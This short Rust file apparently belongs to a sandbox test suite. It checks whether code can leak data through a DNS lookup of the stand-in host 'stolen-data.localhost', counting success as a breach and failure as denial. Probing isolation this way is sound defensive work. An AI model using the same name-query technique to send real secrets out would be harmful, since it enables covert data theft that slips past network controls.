//! Tells a name server something by asking it for a name.

use std::net::ToSocketAddrs as _;

attack::attack!(|_| match ("stolen-data.localhost", 80).to_socket_addrs() {
    Ok(found) => Ok(attack::breach(&format!("{found:?}"))),
    Err(error) => Err(format!("denied: {error}")),
});
